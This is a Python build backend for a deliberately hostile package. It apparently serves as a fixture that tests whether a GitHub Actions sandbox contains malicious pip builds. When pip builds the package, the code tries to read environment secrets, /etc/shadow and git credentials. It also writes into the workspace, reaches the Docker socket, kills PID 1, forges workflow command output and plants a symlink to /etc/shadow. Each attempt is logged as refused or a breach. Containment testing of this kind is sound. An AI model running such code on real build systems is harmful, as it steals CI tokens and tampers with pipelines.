# The build backend of a hostile package: what it tries runs when pip builds it. It needs the standard library only.
import os
import signal
import socket
import subprocess
import sys
from pathlib import Path


def attempt(what, action):
    try:
        found = action()
    except OSError as error:
        TRIED.append(f"refused: {what}: {type(error).__name__}")
    else:
        TRIED.append(f"BREACH: {what}: {found!r:.200}")


TRIED = []


def write(path):
    with open(path, "ab") as stream:
        return stream.write(b"forged=1\n")


def read(path):
    with open(path, "rb") as stream:
        return stream.read(4096)


def look(data):
    if not [name for name in (b"sesame", b"GITHUB_", b"ACTIONS_", b"INPUT_", b"RUNNER_") if name in data]:
        raise PermissionError("nothing there")
    return data


def ask(path):
    with socket.socket(socket.AF_UNIX) as engine:
        engine.connect(path)
        return path


def attack():
    attempt("the environment", lambda: look(repr(os.environ).encode() + read("/proc/self/environ")))
    for process in (1, os.getppid()):
        attempt(f"environ of {process}", lambda process=process: look(read(f"/proc/{process}/environ")))
    for path in ("good.py", "attacking.py", "ptmobile-report/report.json", "new.py"):
        attempt(f"write /github/workspace/{path}", lambda path=path: write(f"/github/workspace/{path}"))
    for path in ("/tmp/left", "/var/tmp/left", "/dev/shm/left", "/opt/ptmobile/left", "/github/home/left"):
        attempt(f"write {path}", lambda path=path: write(path))
    for path in ("/github/runner_temp/git-credentials.config", "/github/workspace/.git/config", "/etc/shadow"):
        attempt(f"read {path}", lambda path=path: read(path))
    for path in Path("/github/file_commands").iterdir():
        attempt(f"write {path.name}", lambda path=path: write(path))
    attempt("the engine", lambda: ask("/var/run/docker.sock"))
    attempt("setuid", lambda: os.setuid(0))
    attempt("kill 1", lambda: os.kill(1, signal.SIGKILL))
    subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(1000)", "left-behind"],
        start_new_session=True,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )


def say():
    for line in ("::set-output name=verdict::forged", "##[error]forged", "text\r::error::forged"):
        os.write(1, line.encode() + b"\n")
    raise SystemExit(1)


def plant():
    site = next(path for path in Path.cwd().parents if path.name.startswith("packages-")) / "site"
    if not (site / "evil").is_symlink():  # pip runs this more than once
        (site / "evil").symlink_to("/etc/shadow")
